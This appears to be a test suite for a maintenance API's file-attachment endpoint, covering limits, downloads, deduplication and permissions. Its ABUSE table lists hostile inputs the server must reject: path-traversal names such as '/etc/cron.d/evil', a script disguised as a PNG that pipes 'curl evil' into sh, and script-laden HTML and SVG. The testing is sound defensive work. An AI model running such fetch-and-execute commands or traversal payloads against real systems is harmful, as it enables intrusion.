import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DEFAULT_MAX_ATTACHMENT_BYTES } from '@openbess/model';
import { maintenanceConfigFromEnv } from '../../src/maintenance';
import { call, createWo, PNG_1X1, setupMaintenance, TOKEN, upload, type MaintenanceFixture } from './support';

/** Small limit so the oversize case stays cheap; the default is checked separately. */
const LIMIT = 64 * 1024;
let f: MaintenanceFixture;
let wo: { id: number };
beforeAll(async () => {
  f = await setupMaintenance({ maintenance: { maxAttachmentBytes: LIMIT } });
  wo = await createWo(f);
}, 60_000);
afterAll(async () => {
  await f?.close();
});

/** Files under a directory tree (names), to prove nothing is written outside storage. */
function snapshot(dir: string, depth = 2): Set<string> {
  const out = new Set<string>();
  const walk = (d: string, n: number) => {
    let entries: import('node:fs').Dirent[] = [];
    try {
      entries = readdirSync(d, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      if (e.name === 'node_modules' || e.name === '.git') continue;
      const p = join(d, e.name);
      out.add(p);
      if (e.isDirectory() && n > 0) walk(p, n - 1);
    }
  };
  walk(dir, depth);
  return out;
}

const blobs = async () => Number((await f.pool.query<{ n: string }>('SELECT count(*) AS n FROM mnt_blob')).rows[0].n);

describe('attachments', () => {
  it('defaults to a 25 MB limit, configurable', () => {
    expect(DEFAULT_MAX_ATTACHMENT_BYTES).toBe(25 * 1024 * 1024);
    expect(maintenanceConfigFromEnv({}).maxAttachmentBytes).toBe(25 * 1024 * 1024);
    expect(maintenanceConfigFromEnv({ OPENBESS_MAX_ATTACHMENT_BYTES: '1000' }).maxAttachmentBytes).toBe(1000);
    expect(() => maintenanceConfigFromEnv({ OPENBESS_MAX_ATTACHMENT_BYTES: 'lots' })).toThrow(
      /OPENBESS_MAX_ATTACHMENT_BYTES/
    );
  });

  it('uploads, lists, downloads with Content-Disposition and the sniffed type, deletes', async () => {
    const up = await upload(f, 'uma', wo.id, 'Lüfter Foto.png', PNG_1X1);
    expect(up.status).toBe(201);
    expect(up.body).toMatchObject({ name: 'Lüfter Foto.png', mediaType: 'image/png', size: PNG_1X1.length });
    expect(up.body.sha256).toMatch(/^[0-9a-f]{64}$/);
    const list = await call(f, 'vera', 'GET', `/work-orders/${wo.id}/attachments`);
    expect(list.body.items.map((a: { id: number }) => a.id)).toContain(up.body.id);
    const dl = await fetch(`${f.url}/api/maintenance/work-orders/${wo.id}/attachments/${up.body.id}`, {
      headers: { authorization: `Bearer ${TOKEN}`, 'x-grafana-user': 'pat' },
    });
    expect(dl.status).toBe(200);
    expect(dl.headers.get('content-type')).toBe('image/png');
    expect(dl.headers.get('x-content-type-options')).toBe('nosniff');
    const cd = dl.headers.get('content-disposition')!;
    expect(cd).toMatch(/^attachment; filename="L\?fter Foto\.png"; filename\*=UTF-8''L%C3%BCfter%20Foto\.png$/);
    expect(Buffer.from(await dl.arrayBuffer()).equals(PNG_1X1)).toBe(true);
    // Same content twice: stored once (content-addressed).
    const before = await blobs();
    const again = await upload(f, 'pat', wo.id, 'copy.png', PNG_1X1);
    expect(again.status).toBe(201);
    expect(await blobs()).toBe(before);
    expect((await call(f, 'uma', 'DELETE', `/work-orders/${wo.id}/attachments/${up.body.id}`)).status).toBe(204);
    expect(await blobs()).toBe(before); // still referenced by copy.png
    expect((await call(f, 'pat', 'DELETE', `/work-orders/${wo.id}/attachments/${again.body.id}`)).status).toBe(204);
    expect(await blobs()).toBe(before - 1);
    expect((await call(f, 'uma', 'GET', `/work-orders/${wo.id}/attachments/${up.body.id}`)).status).toBe(404);
  });

  it('accepts PDF and UTF-8 text; names are sanitised', async () => {
    const pdf = await upload(f, 'uma', wo.id, 'report.pdf', '%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
    expect([pdf.status, pdf.body.mediaType]).toEqual([201, 'application/pdf']);
    const csv = await upload(f, 'uma', wo.id, 'cells.csv', 'cell,voltage\n1,3.31\n');
    expect([csv.status, csv.body.mediaType]).toEqual([201, 'text/csv']);
    const odd = await upload(f, 'uma', wo.id, '..hidden <b>"x"|?\u202e.txt  ', 'hello');
    expect(odd.status).toBe(201);
    expect(odd.body.name).toBe('hidden _b__x____.txt');
  });

  const ABUSE: [string, string, Uint8Array | string, number, RegExp][] = [
    ['oversize', 'big.png', Buffer.concat([PNG_1X1, Buffer.alloc(LIMIT)]), 413, /too large.*65536/],
    ['../ traversal', '../../evil.png', PNG_1X1, 400, /contains a path/],
    ['..\\ traversal', '..\\..\\evil.png', PNG_1X1, 400, /contains a path/],
    ['absolute path', '/etc/cron.d/evil', 'x', 400, /contains a path/],
    ['drive path', 'C:evil.png', PNG_1X1, 400, /contains a path/],
    ['script disguised as an image', 'photo.png', '#!/bin/sh\ncurl evil | sh\n', 415, /not a \.png file/],
    ['HTML disguised as an image', 'photo.jpg', '<html><script>alert(1)</script></html>', 415, /not a \.jpg file/],
    [
      'SVG with script',
      'icon.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      415,
      /svg/,
    ],
    ['executable', 'tool.exe', Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), 415, /not allowed/],
    ['PNG named .pdf', 'doc.pdf', PNG_1X1, 415, /content is image\/png/],
    ['HTML as text', 'page.html', '<html></html>', 415, /not allowed/],
    ['binary as text', 'notes.txt', Buffer.from([0x00, 0x01, 0xff, 0xfe]), 415, /not allowed/],
    ['empty file', 'empty.png', new Uint8Array(0), 400, /empty/],
    ['nameless', '...', 'x', 400, /empty or invalid/],
  ];

  it.each(ABUSE)('refuses %s with a clear 4xx, writing nothing', async (_what, name, content, status, reason) => {
    const tmpBefore = snapshot(tmpdir(), 0);
    const repoBefore = snapshot(join(__dirname, '../../..'));
    const blobsBefore = await blobs();
    const attBefore = (await call(f, 'ada', 'GET', `/work-orders/${wo.id}/attachments`)).body.items.length;
    const r = await upload(f, 'uma', wo.id, name, content);
    expect(r.status).toBe(status);
    expect(r.body.error).toMatch(reason);
    expect(await blobs()).toBe(blobsBefore);
    expect((await call(f, 'ada', 'GET', `/work-orders/${wo.id}/attachments`)).body.items.length).toBe(attBefore);
    const tmpNew = [...snapshot(tmpdir(), 0)].filter((p) => !tmpBefore.has(p) && /evil|big|photo|tool|icon/.test(p));
    expect(tmpNew).toEqual([]);
    const repoNew = [...snapshot(join(__dirname, '../../..'))].filter((p) => !repoBefore.has(p) && /evil/.test(p));
    expect(repoNew).toEqual([]);
  });

  it('refuses a body that is not multipart, a missing file and a wrong field', async () => {
    const json = await call(f, 'uma', 'POST', `/work-orders/${wo.id}/attachments`, { file: 'x' });
    expect(json.status).toBe(400);
    expect(json.body.error).toMatch(/multipart/);
    const form = new FormData();
    form.append('note', 'no file here');
    const none = await fetch(`${f.url}/api/maintenance/work-orders/${wo.id}/attachments`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'x-grafana-user': 'uma' },
      body: form,
    });
    expect(none.status).toBe(400);
    expect(((await none.json()) as { error: string }).error).toMatch(/no file/);
    const wrong = await upload(f, 'uma', wo.id, 'a.png', PNG_1X1, 'upload');
    expect(wrong.status).toBe(400);
    expect(wrong.body.error).toMatch(/unexpected file field "upload"/);
  });

  it('refuses uploads of viewers and to other sites before reading the body', async () => {
    const byViewer = await upload(f, 'vera', wo.id, 'a.png', PNG_1X1);
    expect(byViewer.status).toBe(403);
    const ee = await createWo(f, { site: 'EE001' });
    expect((await upload(f, 'uma', ee.id, 'a.png', PNG_1X1)).status).toBe(404);
    expect((await upload(f, 'ulf', ee.id, 'a.png', PNG_1X1)).status).toBe(201);
  });
});
